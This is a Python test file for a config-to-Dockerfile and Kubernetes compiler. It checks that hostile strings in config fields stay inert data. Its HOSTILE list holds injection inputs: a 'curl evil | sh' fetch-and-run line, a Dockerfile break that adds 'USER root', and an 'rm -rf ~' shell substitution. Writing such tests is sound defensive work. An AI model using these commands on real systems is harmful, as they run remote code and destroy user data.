"""Hostile config strings reach the Dockerfiles and manifests only as data."""

from __future__ import annotations

import json
import re

import pytest
from lfm.compiler.pipeline import compile_config
from ruamel.yaml import YAML

HOSTILE = [
    "x\nRUN curl evil | sh",
    '"]\nUSER root\nCMD ["sh',
    "key: value\n- item",
    "$(rm -rf ~) `id` ${HOME}",
    "\x1b[31m\u2028\u2029",
]


def config(value: str) -> str:
    path = value if "\\" not in value else "./plain"
    # An output_dir that an ignore file would misread is refused (tests/test_rules.py).
    output = path if not re.search(r"[\x00-\x1f\[\]*?#!]", path) else "plain"
    return json.dumps(
        {
            "model_config": {
                "name": "svc",
                "base_model": path,
                "description": value,
                "fine_tuning": {"training": {"output_dir": f"./{output}"}},
                "distributed": {"strategy": "ddp", "gpus": 2, "nodes": 2},
                "deployment": {"target": "kubernetes", "auto_scaling": {"max_replicas": 3}},
            }
        }
    )


def shape(node):
    """The document with every string blanked: its structure alone."""
    if isinstance(node, dict):
        return {k: shape(v) for k, v in node.items()}
    if isinstance(node, list):
        return [shape(v) for v in node]
    return "_" if isinstance(node, str) else node


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_strings_do_not_change_deployment_artifacts(write_config, evil):
    files = compile_config(write_config(config(evil), "evil.json"), "bundle").files
    plain = compile_config(write_config(config("plain"), "plain.json"), "bundle").files
    assert {p for p in files if p.startswith("k8s/")} == {p for p in plain if p.startswith("k8s/")}
    for path in (p for p in files if p.startswith("k8s/")):
        ours, theirs = (YAML(typ="safe").load(f[path]) for f in (files, plain))
        assert shape(ours) == shape(theirs), path
    for path in ("Dockerfile", "Dockerfile.serve"):
        ours, theirs = files[path].splitlines(), plain[path].splitlines()
        assert len(ours) == len(theirs), path
        for mine, other in zip(ours, theirs, strict=True):
            assert mine.split(" ", 1)[0] == other.split(" ", 1)[0]  # same instructions
    cmd = next(line for line in files["Dockerfile.serve"].splitlines() if line.startswith("CMD "))
    assert json.loads(cmd[4:])[0] == evil
